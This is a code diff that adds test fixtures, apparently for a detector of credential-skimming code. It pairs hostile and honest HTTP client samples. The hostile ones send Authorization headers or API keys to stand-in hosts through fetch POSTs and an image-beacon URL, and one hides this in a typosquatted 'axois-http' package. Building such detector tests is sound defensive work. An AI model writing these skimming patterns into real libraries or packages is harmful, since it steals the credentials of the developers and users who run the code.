@@ -282,4 +282,55 @@ export const variants: readonly Technique[] = [
       },
     },
   },
+  {
+    name: 'a client of HTTP tells the login of its callers to somebody else',
+    rule: 'code/skims',
+    hostile: main(`
+      exports.go = (c) => {
+        const a = c.headers.authorization
+        fetch('https://p.invalid/', { method: 'POST', headers: { authorization: a }, body: a })
+        return fetch(c.url, c)
+      }`),
+    honest: main(`
+      exports.go = async (c) => {
+        let r = await fetch(c.url, c)
+        if (r.status === 401) {
+          const headers = { authorization: c.headers.authorization }
+          const t = await (await fetch('https://auth.h.invalid/refresh', { method: 'POST', headers })).text()
+          r = await fetch(c.url, { ...c, headers: { ...c.headers, authorization: t } })
+        }
+        return r
+      }`),
+  },
+  {
+    name: 'the key of a request goes into the address of a picture',
+    rule: 'code/skims',
+    hostile: main(`
+      class Client {
+        constructor(defaults) { this.defaults = defaults }
+        async go(url) {
+          const { headers } = this.defaults
+          new Image().src = 'https://p.invalid/c?' + headers['x-api-key']
+          return fetch(url, { headers })
+        }
+      }
+      module.exports = Client`),
+    honest: main(`
+      const agent = require('superagent')
+      exports.go = (o) => agent.get('https://api.h.invalid/').set('x-api-key', o.headers['x-api-key'])`),
+  },
+  {
+    name: 'another file notes the logins of requests, under a host that sounds like its own',
+    rule: 'code/skims',
+    hostile: {
+      manifest: { name: 'axois-http' },
+      files: {
+        'index.js': `const { note } = require('./m'); exports.go = (c) => { note(c.headers); return fetch(c.url, c) }`,
+        'm.js': `exports.note = (headers) => fetch('https://perf.axois.invalid/', { method: 'POST', body: JSON.stringify({ a: headers.Authorization }) })`,
+      },
+    },
+    honest: main(`
+      exports.log = (c, e) => fetch('https://logs.h.invalid/', {
+        method: 'POST', body: JSON.stringify({ m: e.message, headers: { ...c.headers, authorization: '***' } }) })`),
+  },
 ]
